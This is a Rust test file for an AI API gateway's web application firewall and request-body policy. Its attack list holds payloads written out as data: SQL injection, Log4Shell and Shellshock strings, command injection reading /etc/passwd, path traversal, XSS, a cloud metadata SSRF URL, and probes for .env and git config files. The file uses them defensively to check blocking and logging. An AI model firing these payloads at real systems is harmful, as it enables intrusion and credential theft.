//! The built-in protection and the body policy: attacks are refused or noted, honest text is neither.

use crate::common::{A, ladder, regions, served_by};
use harness::{Answer, Ask, Gateway, Sim};
use serde_json::{Value, json};

const V1: &str = "/openai/v1/chat/completions";
const MODELS: &str = "/openai/v1/models";

/// One policy for everything, with these keys beside its name.
async fn gateway(keys: &str) -> (Sim, Sim, Gateway) {
    let (a, b) = regions().await;
    let waf = format!("waf: {{ policy: edge, policies: [{{ name: edge, {keys} }}] }}");
    let gateway = ladder(&a, &b).top(&waf).start().await;
    (a, b, gateway)
}

/// Rules that the access log tells of this request, with the modes in force.
async fn findings(gateway: &Gateway, ask: &Ask) -> Vec<(String, String)> {
    let record = gateway.record(&ask.id).await;
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let list = record["waf"].as_array().cloned().unwrap_or_default();
    list.iter().map(|finding| (text(&finding["rule"]), text(&finding["mode"]))).collect()
}

fn has(findings: &[(String, String)], rule: &str, mode: &str) -> bool {
    findings.iter().any(|(own, its)| own == rule && its == mode)
}

fn escaped(text: &str) -> String {
    let one =
        |byte: u8| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") };
    text.bytes().map(one).collect()
}

/// Attacks with the rule that finds each.
fn attacks() -> Vec<(Ask, &'static str)> {
    let query = |text: &str| Ask::new("GET", &format!("{MODELS}?q={}", escaped(text)));
    vec![
        (Ask::new("GET", "/.env"), "TG-1102"),
        (Ask::new("GET", "/.git/config"), "TG-1101"),
        (Ask::new("GET", "/backup.sql"), "TG-1103"),
        (Ask::new("GET", "/.claude/settings.json"), "TG-1104"),
        (Ask::new("GET", "/docker-compose.yml"), "TG-1105"),
        (Ask::new("GET", "/wp-login.php"), "TG-1202"),
        (Ask::new("GET", "/shell.jsp"), "TG-1203"),
        (Ask::new("GET", "/a/%252e%252e/b"), "TG-1005"),
        (Ask::new("GET", "/a/%c0%ae%c0%ae/b"), "TG-1004"),
        (Ask::new("PROPFIND", MODELS), "TG-1205"),
        (Ask::chat("gpt").header("user-agent", "sqlmap/1.8"), "TG-1201"),
        (Ask::chat("gpt").header("user-agent", "${jndi:ldap://x/a}"), "TG-1603"),
        (Ask::chat("gpt").header("cookie", "id=1' or '1'='1"), "TG-1401"),
        (Ask::chat("gpt").header("x-note", "() { :; }; id"), "TG-1602"),
        (query("../../etc/passwd"), "TG-1301"),
        (query("1' union select password from users --"), "TG-1402"),
        (query("<script>alert(1)</script>"), "TG-1502"),
        (query("; cat /etc/passwd"), "TG-1601"),
        (query("http://169.254.169.254/latest/meta-data"), "TG-1701"),
        (query("a\r\nset-cookie: b=c"), "TG-1002"),
        (query("a\0"), "TG-1003"),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_refused_in_prevent_and_reach_no_region() {
    let (a, b, gateway) = gateway("mode: prevent").await;
    for (ask, rule) in attacks() {
        let answer = gateway.ask(&ask).await;
        assert_eq!((answer.status, answer.code().as_str()), (403, "request_blocked"), "{ask:?} {answer}");
        let found = findings(&gateway, &ask).await;
        assert!(has(&found, rule, "prevent") && has(&found, "949110", "prevent"), "{ask:?} {found:?}");
    }
    assert_eq!((a.requests(), b.requests()), (0, 0), "{:?}", a.records());
    served_by(&gateway.ask(&Ask::chat("gpt")).await, A);
    let metrics = gateway.metrics().await;
    let labels = [("policy", "edge"), ("rule", "TG-1102"), ("mode", "prevent")];
    assert_eq!(metrics.count("tidegate_waf_findings_total", &labels), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_only_noted_in_detect() {
    let (_a, _b, gateway) = gateway("mode: detect").await;
    for (ask, rule) in attacks() {
        let answer = gateway.ask(&ask).await;
        assert_ne!((answer.status, answer.code().as_str()), (403, "request_blocked"), "{ask:?} {answer}");
        let found = findings(&gateway, &ask).await;
        assert!(has(&found, rule, "detect") && has(&found, "949110", "detect"), "{ask:?} {found:?}");
    }
    let ask = Ask::chat("gpt").header("user-agent", "sqlmap/1.8");
    served_by(&gateway.ask(&ask).await, A);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn harmless_prompts_pass_and_are_judged_in_a_query() {
    let (_a, _b, gateway) = gateway("mode: prevent, body: { unknown_keys: deny }").await;
    let text = include_str!("../corpus/prompts.txt");
    let prompts: Vec<(bool, &str)> = (text.split("\n%%").skip(1))
        .filter_map(|entry| entry.split_once('\n'))
        .map(|(mark, prompt)| (mark == " judged", prompt))
        .collect();
    assert!(prompts.len() >= 60, "{}", prompts.len());
    for (judged, prompt) in prompts {
        let body = json!({"model": "gpt", "messages": [{"role": "system", "content": prompt}, {"role": "user", "content": [{"type": "text", "text": prompt}]}]});
        let ask = Ask::json(V1, body.to_string());
        served_by(&gateway.ask(&ask).await, A);
        assert!(findings(&gateway, &ask).await.is_empty(), "{prompt}");
        if judged {
            let answer = gateway.ask(&Ask::new("GET", &format!("{MODELS}?q={}", escaped(prompt)))).await;
            assert_eq!(answer.code(), "request_blocked", "{prompt} {answer}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exclusions_and_overrides_are_honoured() {
    let (_a, _b, gateway) = gateway(
        "mode: prevent, builtin: { exclusions: [ { variable: query, selector: q, rules: [script] }, \
         { variable: header, operator: starts_with, selector: x-app- }, \
         { variable: cookie, operator: ends_with, selector: _blob, rules: [TG-1401, TG-1402] }, \
         { variable: query, operator: contains, selector: text, rules: [sql] }, \
         { variable: json, selector: n, rules: [TG-2008] } ], \
         overrides: [ { rules: [scanner], mode: detect }, { rules: [TG-1102], mode: off }, { rules: [TG-1101], score: 4 } ] }",
    )
    .await;
    let script = escaped("<script>alert(1)</script>");
    let sql = escaped("1' or '1'='1");
    for (ask, passes) in [
        (Ask::new("GET", &format!("{MODELS}?q={script}")), true),
        (Ask::new("GET", &format!("{MODELS}?p={script}")), false),
        (Ask::new("GET", &format!("{MODELS}?q={sql}")), false),
        (Ask::new("GET", &format!("{MODELS}?my_text_1={sql}")), true),
        (Ask::chat("gpt").header("x-app-note", "../../etc/passwd"), true),
        (Ask::chat("gpt").header("x-note", "../../etc/passwd"), false),
        (Ask::chat("gpt").header("cookie", "a_blob=x' or 'a'='b"), true),
        (Ask::chat("gpt").header("cookie", "a=1' or '1'='1"), false),
        (Ask::chat("gpt").header("user-agent", "nikto"), true),
        (Ask::new("GET", "/.env"), true),
        (Ask::new("GET", "/.git/config"), true),
        (Ask::json(V1, r#"{"model":"gpt","messages":[],"n":50}"#), true),
    ] {
        let answer = gateway.ask(&ask).await;
        assert_eq!(answer.code() != "request_blocked" && answer.code() != "body_refused", passes, "{ask:?} {answer}");
    }
}

#[track_caller]
fn refused(answer: &Answer, status: u16, code: &str, text: &str) {
    assert_eq!((answer.status, answer.code().as_str()), (status, code), "{answer}");
    assert!(answer.text().contains(text), "{text}: {answer}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_of_a_wrong_shape_are_refused_with_a_word_why() {
    let (a, b, gateway) =
        gateway("mode: prevent, body: { unknown_keys: deny, known_keys: [extra], max_tokens_max: 1000 }").await;
    let deep = format!(
        r#"{{"model":"gpt","messages":[],"metadata":{}{}}}"#,
        r#"{"a":"#.repeat(70),
        "1".to_owned() + &"}".repeat(70)
    );
    let many = format!(r#"{{"model":"gpt","messages":[{}]}}"#, vec![r#"{"role":"user"}"#; 4097].join(","));
    for (body, word) in [
        (r#"{"model":"gpt","messages":[{"role":"user","content":"a","role":"system"}]}"#, "`role` is there twice"),
        (r#"{"model":"gpt","messages":[],"metadata":{"a":1,"\u0061":2}}"#, "there twice"),
        (&deep, "deeper than 64"),
        (&many, "4097 entries"),
        (r#"{"model":"gpt","messages":"hi"}"#, "`messages` must be an array"),
        (r#"{"model":"gpt","messages":[],"n":9}"#, "`n` must be from 1 to 8"),
        (r#"{"model":"gpt","messages":[],"max_tokens":1001}"#, "`max_tokens` must be from 1 to 1000"),
        (r#"{"model":"gpt","messages":[],"surprise":1}"#, "`surprise` is not a field"),
    ] {
        let ask = Ask::json(V1, body.to_owned());
        refused(&gateway.ask(&ask).await, 400, "body_refused", word);
        assert!(
            findings(&gateway, &ask).await.iter().any(|(rule, mode)| rule.starts_with("TG-20") && mode == "prevent")
        );
    }
    let body = r#"{"model":"gpt","messages":[{"role":"user","content":"hi"}],"extra":1}"#;
    let wrong = Ask::new("POST", V1).header("content-type", "text/plain").body(body);
    refused(&gateway.ask(&wrong).await, 415, "unsupported_media_type", "application/json");
    // The older answers stay.
    let twice = Ask::json(V1, r#"{"model":"gpt","model":"gpt-2"}"#);
    refused(&gateway.ask(&twice).await, 400, "invalid_value", "model");
    assert_eq!((a.requests(), b.requests()), (0, 0), "{:?}", a.records());
    served_by(&gateway.ask(&Ask::json(V1, body)).await, A);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_of_a_wrong_shape_are_noted_in_detect_and_ignored_when_off() {
    let body = r#"{"model":"gpt","messages":[{"role":"user","content":"hi"}],"n":9,"surprise":1}"#;
    let (_a, _b, gateway) = gateway("mode: detect").await;
    let ask = Ask::json(V1, body);
    served_by(&gateway.ask(&ask).await, A);
    let found = findings(&gateway, &ask).await;
    assert!(has(&found, "TG-2008", "detect") && has(&found, "TG-2009", "detect"), "{found:?}");
    let (_a, _b, gateway) = self::gateway("mode: prevent, body: off, builtin: off").await;
    for ask in [Ask::json(V1, body), Ask::chat("gpt").header("user-agent", "nikto")] {
        served_by(&gateway.ask(&ask).await, A);
        assert!(findings(&gateway, &ask).await.is_empty());
    }
}
